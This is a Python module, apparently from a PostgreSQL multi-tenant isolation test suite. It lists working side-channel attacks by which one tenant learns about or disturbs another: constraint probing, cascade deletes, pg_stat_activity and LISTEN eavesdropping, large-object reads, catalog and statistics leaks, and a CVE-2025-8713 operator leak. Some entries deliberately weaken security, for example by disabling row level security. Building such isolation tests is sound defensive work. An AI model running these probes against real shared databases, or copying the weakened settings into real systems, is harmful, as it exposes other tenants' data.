"""X: what tells of others without a row of theirs."""

from __future__ import annotations

import asyncpg

from attacks.attack import Attack, Goal, WeakLogin
from attacks.scene import CANARY, Scene, listening


async def _deleted_along(scene: Scene) -> bool:
    """The victim's row hangs on a row of the attacker's, who deletes it."""
    planted = await scene.ask_victim(
        "insert into items (id, order_id, note) values (900090, {own_order}, '{canary}')"
    )
    before = await scene.victims_state()
    await scene.attack("delete from orders where id = {own_order}")
    changed = await scene.victims_state() != before
    if not planted.failed:
        await scene.ask_victim("delete from items where id = 900090")
    return changed


async def _held_by_a_child(scene: Scene) -> bool:
    """A row of the attacker's hangs on the victim's, which cannot be deleted any more."""
    await scene.ask_victim("insert into orders (id, note) values (3999, '{canary}')")
    await scene.attack("insert into receipts (id, order_id, note) values (1, 3999, 'mine')")
    return (await scene.ask_victim("delete from orders where id = 3999")).failed


async def _jumping_sequence(scene: Scene) -> bool:
    """Numbers of a sequence jump when the victim takes some."""
    taken = "insert into tickets (note) values ('mine') returning id"
    first = await scene.attack(taken)
    await scene.ask_victim("insert into tickets (note) values ('{canary} late')")
    second = await scene.attack(taken)
    await scene.ask_victim("delete from tickets where note = '{canary} late'")
    if first.failed or second.failed:
        return False
    return int(second.rows[0][0]) - int(first.rows[0][0]) != 1


async def _neighbours_statement(scene: Scene) -> bool:
    """The text of what the victim's session runs."""
    async with scene.direct(scene.victim) as connection:
        await connection.fetch(f"select '{CANARY}' as secret")
        answer = await scene.attack("select query from pg_stat_activity")
    return any(CANARY in text for text in answer.cells())


async def _overheard(scene: Scene) -> bool:
    """What the victim notifies."""
    async with scene.direct(scene.attacker) as ear, listening(ear, "orders") as heard:
        scene.note_rows(())
        async with scene.direct(scene.victim) as connection:
            await connection.execute(f"notify orders, '{CANARY}'")
        return await heard(CANARY)


async def _large_object(scene: Scene) -> bool:
    """A large object of the victim's."""
    async with scene.direct(scene.victim) as connection:
        try:
            number = await connection.fetchval(f"select lo_from_bytea(0, '{CANARY}')")
        except asyncpg.PostgresError:
            number = 1
    answer = await scene.attack(f"select convert_from(lo_get({number}), 'UTF8')")
    return any(CANARY in text for text in answer.cells())


async def _error_texts(scene: Scene) -> bool:
    """An error that tells the key of a row that one cannot see."""
    answer = await scene.attack(
        "insert into orders (id, code, note) values ({own_order}, 'code-1001', 'mine')"
        " on conflict (id) do update set code = excluded.code"
    )
    return "code-1001" in answer.error and "already exists" in answer.error


_LOCK_OF_THE_VICTIM = "4611686018427387904 | {victim_value}"
_SHARED = {"row/direct": "shared-estimates", "hybrid/direct": "shared-estimates"}
_SHARED_HANDED = {"row/handed": "shared-estimates", "hybrid/handed": "shared-estimates"}
_ESTIMATES = _SHARED | _SHARED_HANDED
_FOREIGN = {"schema/direct": "foreign-estimates", "schema/handed": "foreign-estimates"}

ATTACKS = (
    Attack(
        id="X01",
        title="an insert fails on a unique value of the victim's",
        goal=Goal.TELL_APART,
        steps=[
            "insert into orders (id, code, note) values (8{guessed_order}, '{guessed_code}', 'x')"
        ],
    ),
    Attack(
        id="X01",
        variant="nothing",
        title="ON CONFLICT DO NOTHING does nothing for a value of the victim's",
        goal=Goal.TELL_APART,
        steps=[
            "insert into orders (id, code, note) values (8{guessed_order}, '{guessed_code}', 'x')"
            " on conflict do nothing",
            "select count(*) from orders where id = 8{guessed_order}",
        ],
    ),
    Attack(
        id="X01",
        variant="update",
        title="ON CONFLICT DO UPDATE fails for a value of the victim's",
        goal=Goal.TELL_APART,
        steps=[
            "insert into orders (id, code, note) values (8{guessed_order}, '{guessed_code}', 'x')"
            " on conflict (code) do update set note = 'y'"
        ],
    ),
    Attack(
        id="X02",
        title="a foreign key tells whether the victim has a row",
        goal=Goal.TELL_APART,
        steps=["insert into receipts (id, order_id, note) values (1, {guessed_order}, 'x')"],
    ),
    Attack(
        id="X03",
        title="ON DELETE CASCADE reaches the victim's rows",
        goal=Goal.CHANGE,
        play=_deleted_along,
    ),
    Attack(
        id="X04",
        title="a child row keeps the victim from deleting",
        goal=Goal.HINDER,
        play=_held_by_a_child,
    ),
    Attack(
        id="X05",
        title="EXPLAIN ANALYZE tells how many rows were filtered out",
        goal=Goal.LEARN,
        steps=[
            "set enable_indexscan = off",
            "set enable_bitmapscan = off",
            "set enable_indexonlyscan = off",
            "explain (analyze, timing off, costs off) select * from orders where note <> ''",
        ],
        setting_up=["analyze {own_schema}.orders"],
        accepted=_ESTIMATES,
    ),
    Attack(
        id="X06",
        title="pg_class tells how many rows a table has",
        goal=Goal.LEARN,
        steps=[
            "select relname, reltuples::bigint from pg_class c"
            " join pg_namespace n on n.oid = relnamespace where relkind = 'r'"
            " and nspname not in ('pg_catalog', 'information_schema')"
        ],
        setting_up=["analyze"],
        accepted=_ESTIMATES | _FOREIGN,
    ),
    Attack(
        id="X06",
        variant="activity",
        title="statistics of a table's use tell how many rows it has",
        goal=Goal.LEARN,
        steps=["select relname, n_live_tup, n_tup_ins from pg_stat_user_tables"],
        weakness=["select pg_stat_force_next_flush()"],
    ),
    Attack(
        id="X06",
        variant="values",
        title="statistics of a column's values",
        goal=Goal.READ,
        steps=["select most_common_vals::text, histogram_bounds::text from pg_stats"],
        setting_up=["analyze {own_schema}.orders"],
        weakness=["alter table orders disable row level security; analyze orders;"],
    ),
    Attack(
        id="X06",
        variant="size",
        title="the size of a table",
        goal=Goal.RUN,
        steps=["select pg_relation_size('orders'), pg_total_relation_size('orders')"],
    ),
    Attack(
        id="X07",
        title="an operator of the attacker's sees values before row security does (CVE-2025-8713)",
        goal=Goal.RUN,
        steps=[
            "create function {own_schema}.leak(text, text) returns boolean immutable language sql"
            " as 'select true'",
            "create operator {own_schema}.<<< (leftarg = text, rightarg = text,"
            " function = {own_schema}.leak)",
        ],
    ),
    Attack(
        id="X08",
        title="numbers of a sequence jump",
        goal=Goal.LEARN,
        play=_jumping_sequence,
        accepted={
            "row": "sequence-gaps",
            "hybrid": "sequence-gaps",
        },
    ),
    Attack(
        id="X08",
        variant="state",
        title="the state of a sequence",
        goal=Goal.RUN,
        steps=["select last_value from tickets_id_seq"],
        weakness=["grant select on sequence tickets_id_seq to public"],
    ),
    Attack(
        id="X09",
        title="pg_stat_activity tells what the victim runs",
        goal=Goal.READ,
        play=_neighbours_statement,
    ),
    Attack(
        id="X10",
        title="system catalogs list the tenants by name",
        goal=Goal.LEARN,
        steps=[
            "select datname from pg_database",
            "select rolname from pg_roles",
            "select nspname, obj_description(oid, 'pg_namespace') from pg_namespace",
            "select shobj_description(oid, 'pg_authid') from pg_roles",
            "select relname, obj_description(oid, 'pg_class') from pg_class",
            "select proname, prosrc from pg_proc where prolang > 13",
            "select viewname, definition from pg_views",
            "select schema_name from information_schema.schemata",
        ],
        weakness=["create schema victim"],
    ),
    Attack(
        id="X11",
        title="LISTEN hears what the victim notifies",
        goal=Goal.READ,
        play=_overheard,
        one_way=True,
        accepted={
            "row": "notifications",
            "schema": "notifications",
            "hybrid": "notifications",
        },
    ),
    Attack(
        id="X12",
        title="advisory locks",
        goal=Goal.RUN,
        steps=[f"select pg_advisory_lock({_LOCK_OF_THE_VICTIM})".replace("{victim_value}", "7")],
    ),
    Attack(
        id="X13",
        title="large objects",
        goal=Goal.READ,
        play=_large_object,
    ),
    Attack(
        id="X14",
        title="transaction numbers",
        goal=Goal.RUN,
        steps=["select xmin from orders limit 1"],
        accepted={
            f"{level}/{way}": "transaction-numbers"
            for level in ("row", "schema", "database", "hybrid")
            for way in ("direct", "handed")
        },
    ),
    Attack(
        id="X15",
        title="an error tells the key of a row that one cannot see",
        goal=Goal.LEARN,
        play=_error_texts,
        weakness=["alter table orders disable row level security"],
    ),
    Attack(
        id="X16",
        title="tables and columns of another schema",
        goal=Goal.RUN,
        steps=[
            "select attname from pg_attribute where attrelid ="
            " (select c.oid from pg_class c join pg_namespace n on n.oid = relnamespace"
            " where nspname = '{victim_schema}' and relname = '{victim_table}') and attnum > 0"
        ],
        accepted={
            f"{level}/{way}": "catalog-names"
            for level in ("row", "schema", "database", "hybrid")
            for way in ("direct", "handed")
        },
    ),
    Attack(
        id="X16",
        variant="size",
        title="the size of a table in another schema",
        goal=Goal.RUN,
        steps=[
            "select pg_total_relation_size(c.oid) from pg_class c"
            " join pg_namespace n on n.oid = relnamespace where nspname = '{victim_schema}'"
        ],
        weak_as=WeakLogin.SHARED,
    ),
)
